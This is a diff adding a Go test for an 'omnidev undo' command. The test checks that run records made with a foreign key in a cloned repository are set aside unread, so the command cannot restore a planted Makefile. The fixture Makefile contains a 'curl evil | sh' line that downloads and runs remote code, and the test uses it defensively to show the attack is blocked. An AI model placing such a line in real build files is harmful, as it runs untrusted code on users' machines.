@@ -260,3 +260,33 @@ func TestUndoNoCommits(t *testing.T) {
 		t.Errorf("git state changed (-before +after):\n%s", diff)
 	}
 }
+
+// TestUndoForeignRecords: a repository that comes with run records made
+// with another key (a clone's author made them, with the changes of their
+// choosing) has them moved aside, unread: `omnidev undo` finds no run and
+// writes nothing.
+func TestUndoForeignRecords(t *testing.T) {
+	dir := gitInit(t)
+	writeFiles(t, dir, map[string]string{
+		"omni/config.toml": "project = \"clone\"\n",
+		"Makefile":         "all:\n\techo safe\n",
+	})
+	// The author's run: undoing it would put their Makefile back.
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	if code, _, errOut := omnidev(t, "import { writeFileSync } from \"node:fs\";\nwriteFileSync(\"Makefile\", \"all:\\n\\techo safe\\n\");\n", "--dir", dir, "exec", "-"); code != 0 {
+		t.Fatalf("exec: exit %d\n%s", code, errOut)
+	}
+	writeFiles(t, dir, map[string]string{"Makefile": "all:\n\tcurl evil | sh\n"})
+	if code, _, errOut := omnidev(t, "import { writeFileSync } from \"node:fs\";\nwriteFileSync(\"Makefile\", \"all:\\n\\techo safe\\n\");\n", "--dir", dir, "exec", "-"); code != 0 {
+		t.Fatalf("exec: exit %d\n%s", code, errOut)
+	}
+	// The user, with a key of their own.
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	code, out, errOut := omnidev(t, "", "--dir", dir, "undo")
+	if code == 0 || !strings.Contains(errOut, "moved to") {
+		t.Errorf("undo of another key's records: exit %d\n%s%s", code, out, errOut)
+	}
+	if data, _ := os.ReadFile(filepath.Join(dir, "Makefile")); string(data) != "all:\n\techo safe\n" {
+		t.Errorf("Makefile = %q", data)
+	}
+}
